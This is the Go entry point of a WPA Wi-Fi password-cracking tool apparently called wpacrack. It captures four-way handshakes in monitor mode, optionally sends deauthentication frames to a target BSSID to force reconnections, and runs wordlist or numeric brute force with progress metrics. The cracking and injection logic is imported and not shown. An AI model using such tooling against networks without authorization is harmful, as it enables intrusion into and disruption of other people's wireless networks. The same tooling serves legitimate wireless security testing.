package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"syscall"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcapgo"
	"github.com/google/uuid"
	"github.com/prometheus/client_golang/prometheus/promhttp"

	"github.com/hashlock/wpacrack/internal/adapters/reporting"
	"github.com/hashlock/wpacrack/internal/adapters/serialize"
	"github.com/hashlock/wpacrack/internal/adapters/sniffer/capture"
	"github.com/hashlock/wpacrack/internal/adapters/sniffer/handshake"
	"github.com/hashlock/wpacrack/internal/adapters/sniffer/injection"
	"github.com/hashlock/wpacrack/internal/adapters/storage"
	"github.com/hashlock/wpacrack/internal/adapters/web"
	"github.com/hashlock/wpacrack/internal/adapters/wordlist"
	"github.com/hashlock/wpacrack/internal/config"
	"github.com/hashlock/wpacrack/internal/core/domain"
	"github.com/hashlock/wpacrack/internal/core/ports"
	"github.com/hashlock/wpacrack/internal/core/services/cracker"
	"github.com/hashlock/wpacrack/internal/telemetry"
)

// Exit codes, spec §6: 0 success, 1 exhausted without a match, 2 malformed
// input, >=3 runtime/capture errors.
const (
	exitSuccess       = 0
	exitNotFound      = 1
	exitMalformed     = 2
	exitRuntimeError  = 3
)

func main() {
	logger := slog.New(slog.NewJSONHandler(os.Stdout, nil))
	slog.SetDefault(logger)

	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer cancel()

	telemetry.InitMetrics()
	shutdownTracer, err := telemetry.InitTracer()
	if err != nil {
		slog.Warn("tracing disabled", "error", err)
	} else {
		defer shutdownTracer(context.Background())
	}

	cfg := config.Load()
	if cfg.Debug {
		logger = slog.New(slog.NewJSONHandler(os.Stdout, &slog.HandlerOptions{Level: slog.LevelDebug}))
		slog.SetDefault(logger)
	}
	if err := cfg.Validate(); err != nil {
		slog.Error("invalid configuration", "error", err)
		os.Exit(exitMalformed)
	}

	jobStore, err := storage.NewSQLiteJobStore(cfg.DBPath)
	if err != nil {
		slog.Error("failed to open job store", "error", err)
		os.Exit(exitRuntimeError)
	}
	defer jobStore.Close()

	switch cfg.Mode {
	case config.ModeWordlist, config.ModeNumeric:
		os.Exit(runCrack(ctx, cfg, jobStore))
	case config.ModeCapture:
		os.Exit(runCapture(ctx, cfg))
	default:
		slog.Error("unknown mode", "mode", cfg.Mode)
		os.Exit(exitMalformed)
	}
}

func runCrack(ctx context.Context, cfg *config.Config, jobStore ports.JobStore) int {
	if cfg.HandshakeFile == "" {
		slog.Error("-handshake is required in wordlist/numeric mode")
		return exitMalformed
	}
	data, err := os.ReadFile(cfg.HandshakeFile)
	if err != nil {
		slog.Error("failed to read handshake file", "error", err)
		return exitMalformed
	}
	var rec serialize.HandshakeRecord
	if err := json.Unmarshal(data, &rec); err != nil {
		slog.Error("failed to decode handshake file", "error", err)
		return exitMalformed
	}
	hs := rec.ToHandshake()
	if err := hs.Validate(); err != nil {
		slog.Error("handshake record failed validation", "error", err)
		return exitMalformed
	}

	jobID := uuid.NewString()
	sourceDesc := cfg.WordlistPath
	sourceKind := "wordlist"
	if cfg.Mode == config.ModeNumeric {
		sourceKind = "numeric"
		sourceDesc = fmt.Sprintf("%d-%d", cfg.MinDigits, cfg.MaxDigits)
	}

	job := domain.CrackJob{
		ID:         jobID,
		SSID:       string(hs.SSID),
		APMac:      net.HardwareAddr(hs.APMac[:]).String(),
		ClientMac:  net.HardwareAddr(hs.ClientMac[:]).String(),
		KeyVersion: hs.KeyVersion,
		SourceKind: sourceKind,
		SourceDesc: sourceDesc,
		Status:     domain.JobStatusRunning,
		StartedAt:  time.Now(),
	}
	if err := jobStore.CreateJob(ctx, job); err != nil {
		slog.Warn("failed to record job start", "error", err)
	}
	telemetry.JobsStarted.WithLabelValues(sourceKind).Inc()

	progress := web.NewProgressServer()
	httpSrv := startProgressHTTP(cfg.Addr, progress)
	defer httpSrv.Shutdown(context.Background())

	wsSink := progress.ProgressSink(jobID)
	candidatesCounter := telemetry.CandidatesAttempted.WithLabelValues(jobID, sourceKind)
	rateGauge := telemetry.CrackRate.WithLabelValues(jobID)
	var reported uint64 // last attempts value already added to candidatesCounter

	engine := cracker.New()
	opts := domain.CrackOptions{
		Workers: cfg.Workers,
		// The engine calls this sink from a single dedicated goroutine at a
		// bounded rate (see cracker.startProgressReporter), so reported is
		// never accessed concurrently.
		ProgressSink: func(attempts uint64, elapsed time.Duration) {
			wsSink(attempts, elapsed)
			if attempts > reported {
				candidatesCounter.Add(float64(attempts - reported))
				reported = attempts
			}
			rate := float64(0)
			if elapsed > 0 {
				rate = float64(attempts) / elapsed.Seconds()
			}
			rateGauge.Set(rate)
		},
	}

	var result domain.CrackResult
	if cfg.Mode == config.ModeWordlist {
		src, err := wordlist.Open(cfg.WordlistPath)
		if err != nil {
			slog.Error("failed to open wordlist", "error", err)
			return exitMalformed
		}
		defer src.Close()
		result, err = engine.CrackWordlist(hs, src, opts)
		if err != nil {
			progress.NotifyError(jobID, err)
			telemetry.JobsFinished.WithLabelValues(string(domain.JobStatusFailed)).Inc()
			slog.Error("crack run failed", "error", err)
			return exitRuntimeError
		}
	} else {
		var err error
		result, err = engine.CrackNumeric(hs, cfg.MinDigits, cfg.MaxDigits, opts)
		if err != nil {
			progress.NotifyError(jobID, err)
			telemetry.JobsFinished.WithLabelValues(string(domain.JobStatusFailed)).Inc()
			slog.Error("crack run failed", "error", err)
			return exitRuntimeError
		}
	}

	status := domain.JobStatusExhausted
	if result.Found() {
		status = domain.JobStatusFound
		progress.NotifyFound(jobID, *result.Password)
		slog.Info("password recovered", "ssid", job.SSID, "attempts", result.Attempts)
	} else {
		progress.NotifyExhausted(jobID)
		slog.Info("candidate space exhausted without a match", "ssid", job.SSID, "attempts", result.Attempts)
	}

	telemetry.JobsFinished.WithLabelValues(string(status)).Inc()

	if err := jobStore.UpdateJobResult(ctx, jobID, result, status); err != nil {
		slog.Warn("failed to record job result", "error", err)
	}

	job.Status = status
	writer := reporting.NewPDFReportWriter()
	if pdfData, err := writer.WriteReport(ctx, job, result); err != nil {
		slog.Warn("failed to render pdf report", "error", err)
	} else {
		reportPath := "crackreport-" + jobID + ".pdf"
		if err := os.WriteFile(reportPath, pdfData, 0o644); err != nil {
			slog.Warn("failed to write pdf report", "error", err)
		} else {
			slog.Info("wrote crack report", "path", reportPath)
		}
	}

	if result.Found() {
		return exitSuccess
	}
	return exitNotFound
}

func runCapture(ctx context.Context, cfg *config.Config) int {
	var src ports.CaptureSource
	var err error

	handshakeStore, err := storage.NewSQLiteHandshakeStore(cfg.DBPath)
	if err != nil {
		slog.Error("failed to open handshake store", "error", err)
		return exitRuntimeError
	}

	if cfg.PcapFile != "" {
		f, openErr := os.Open(cfg.PcapFile)
		if openErr != nil {
			slog.Error("failed to open pcap trace", "error", openErr)
			return exitMalformed
		}
		defer f.Close()
		reader, readerErr := pcapgo.NewReader(f)
		if readerErr != nil {
			slog.Error("failed to parse pcap trace", "error", readerErr)
			return exitMalformed
		}
		src = capture.NewFileSource(f, reader)
	} else {
		if !cfg.MockMode {
			if monErr := enableMonitorMode(cfg.Interface); monErr != nil {
				slog.Error("failed to enable monitor mode", "error", monErr)
				return exitRuntimeError
			}
			defer disableMonitorMode(cfg.Interface)
		}
		src, err = capture.NewLiveSource(cfg.Interface)
		if err != nil {
			slog.Error("failed to open capture interface", "error", err)
			return exitRuntimeError
		}
	}
	defer src.Close()

	assembler := handshake.NewAssembler()

	if cfg.Deauth {
		bssid, parseErr := net.ParseMAC(cfg.TargetBSSID)
		if parseErr != nil {
			slog.Error("invalid -bssid", "error", parseErr)
			return exitMalformed
		}
		provoker := injection.NewProvoker(src, cfg.Interface)
		go func() {
			if err := provoker.Run(ctx, bssid, nil); err != nil {
				slog.Warn("deauth provocation stopped", "error", err)
			}
		}()
	}

	cleanupTicker := time.NewTicker(30 * time.Second)
	defer cleanupTicker.Stop()

	for {
		select {
		case <-ctx.Done():
			slog.Info("capture stopped", "reason", ctx.Err())
			return exitRuntimeError
		case <-cleanupTicker.C:
			assembler.ExpireStale()
		default:
		}

		raw, err := src.Read(ctx)
		if err != nil {
			if errors.Is(err, domain.ErrCaptureTransient) {
				continue
			}
			if errors.Is(err, domain.ErrCaptureFatal) {
				slog.Error("capture source failed", "error", err)
				return exitRuntimeError
			}
			slog.Warn("capture read error", "error", err)
			continue
		}

		packet := gopacket.NewPacket(raw, layers.LayerTypeRadioTap, gopacket.NoCopy)
		hs, complete, err := assembler.Ingest(packet)
		if err != nil {
			slog.Debug("frame ingestion error", "error", err)
			continue
		}
		if !complete {
			continue
		}

		if cfg.SSIDFilter != "" && string(hs.SSID) != cfg.SSIDFilter {
			continue
		}

		sessionID := uuid.NewString()
		if err := handshakeStore.SaveHandshake(ctx, sessionID, hs); err != nil {
			slog.Warn("failed to persist handshake", "error", err)
		}

		rec := serialize.ToRecord(hs)
		out, err := json.Marshal(rec)
		if err != nil {
			slog.Error("failed to serialize handshake", "error", err)
			return exitRuntimeError
		}
		outPath := fmt.Sprintf("handshake-%s.json", string(hs.SSID))
		if err := os.WriteFile(outPath, out, 0o644); err != nil {
			slog.Error("failed to write handshake", "error", err)
			return exitRuntimeError
		}
		slog.Info("handshake captured", "ssid", string(hs.SSID), "session", sessionID, "path", outPath)
		return exitSuccess
	}
}

func startProgressHTTP(addr string, progress *web.ProgressServer) *http.Server {
	mux := http.NewServeMux()
	mux.HandleFunc("/ws/crack/{jobID}", progress.HandleWebSocket)
	mux.Handle("/metrics", promhttp.Handler())
	srv := &http.Server{Addr: addr, Handler: mux}
	go func() {
		if err := srv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			slog.Warn("progress server stopped", "error", err)
		}
	}()
	return srv
}

func enableMonitorMode(iface string) error {
	log.Printf("Enabling monitor mode on %s...", iface)
	if err := runCmd("ip", "link", "set", iface, "down"); err != nil {
		return err
	}
	if err := runCmd("iw", iface, "set", "type", "monitor"); err != nil {
		return err
	}
	return runCmd("ip", "link", "set", iface, "up")
}

func disableMonitorMode(iface string) {
	log.Printf("Restoring managed mode on %s...", iface)
	runCmd("ip", "link", "set", iface, "down")
	runCmd("iw", iface, "set", "type", "managed")
	runCmd("ip", "link", "set", iface, "up")
}

func runCmd(name string, args ...string) error {
	cmd := exec.Command(name, args...)
	output, err := cmd.CombinedOutput()
	if err != nil {
		log.Printf("command failed: %s %v\noutput: %s", name, args, string(output))
		return err
	}
	return nil
}
